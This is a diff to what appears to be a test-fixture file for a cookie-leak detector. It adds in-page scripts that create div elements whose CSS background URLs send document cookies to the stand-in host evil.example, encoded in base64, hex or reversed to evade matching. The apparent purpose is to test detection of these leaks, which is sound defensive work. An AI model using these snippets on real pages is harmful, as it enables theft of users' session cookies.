@@ -576,7 +576,7 @@ export const MAIN_WORLD_SCRIPTS = {
 
   /**
    * The cookie sent by loads no page hook wraps: an SVG <image>, a CSS background, an <img> adopted from a
-   * document DOMParser made, media, a CSS background whose URL holds the cookie in base64, a frame's `src`
+   * document DOMParser made, media, CSS backgrounds whose URLs hold the cookie in base64, hex or reversed, a frame's `src`
    * and a prefetch link. Only the network timeline sees these, and only the cookie in the URL tells them from
    * pictures. Also an Attr changed through `nodeValue`, which the attribute hooks see since stop 30.
    */
@@ -602,10 +602,15 @@ export const MAIN_WORLD_SCRIPTS = {
   const audio = new Audio();
   audio.preload = 'auto';
   audio.src = at('u-audio.wav');
-  const encoded = document.createElement('div');
-  encoded.style.background = 'url(https://evil.example/u-b64.gif?d=' + btoa(c) + ')';
-  encoded.textContent = '.';
-  document.body.appendChild(encoded);
+  const background = (name, data) => {
+    const box = document.createElement('div');
+    box.style.background = 'url(https://evil.example/' + name + '?d=' + data + ')';
+    box.textContent = '.';
+    document.body.appendChild(box);
+  };
+  background('u-b64.gif', btoa(c));
+  background('u-hex.gif', Array.from(new TextEncoder().encode(c), (b) => b.toString(16).padStart(2, '0')).join(''));
+  background('u-rev.gif', encodeURIComponent([...c].reverse().join('')));
   const frame = document.createElement('iframe');
   frame.hidden = true;
   frame.src = at('u-frame');
